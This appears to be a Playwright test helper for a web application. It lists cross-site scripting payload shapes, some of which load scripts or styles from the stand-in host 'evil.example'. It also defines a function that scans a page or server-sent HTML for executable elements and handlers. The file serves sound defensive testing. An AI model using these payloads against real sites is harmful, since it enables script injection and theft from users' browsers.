import type { Page } from '@playwright/test';
import { attacks } from '../security/corpus-attacks.ts';

/** One of each shape of the public lists of cross-site scripting: OWASP, PortSwigger, html5sec. */
export const shapes: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x`` onerror=alert(1)" `` onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><script xlink:href="data:text/javascript,alert(1)"></script></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#x6a;avascript&colon;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/"><link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css"; *{background:url(javascript:alert(1))}</style>',
  '<p style="animation:x" onanimationend=alert(1)>x</p><div style="width:expression(alert(1))">',
  '{{constructor.constructor("alert(1)")()}}',
  '"><svg onload=alert(1)>',
  "'-alert(1)-'",
];

/** The whole corpus, without the sign that no text may have. */
export const everyPayload: readonly string[] = [
  ...shapes,
  ...new Set((attacks['html'] ?? []).map((one) => one.replaceAll('\u0000', ''))),
];

/**
 * What of a page, or of HTML that the server sent, could run: elements that carry code, handlers, and addresses that are programs. The
 * scripts and styles of the application stand in its head.
 */
export const dangerousOn = (page: Page, sent?: string): Promise<readonly string[]> =>
  page.evaluate((text) => {
    const shown = text === undefined ? document : new DOMParser().parseFromString(text, 'text/html');
    const isCode = (one: Element): boolean =>
      ['script', 'object', 'embed', 'base', 'meta', 'link', 'style', 'animate', 'marquee'].includes(one.localName) ||
      (one.localName === 'iframe' && (one.hasAttribute('srcdoc') || /^\s*javascript/i.test(one.getAttribute('src') ?? '')));
    // Of React and its components no element has a handler as an attribute.
    const isHandler = ({ name, value }: Attr): boolean =>
      /^on/i.test(name) ||
      name === 'formaction' ||
      /^(javascript|vbscript|data:text)/i.test(value.replaceAll(/[^\u0021-\uffff]/g, ''));
    return [...shown.body.querySelectorAll('*')]
      .filter((one) => isCode(one) || [...one.attributes].some(isHandler))
      .map((one) => one.outerHTML.slice(0, 120));
  }, sent);
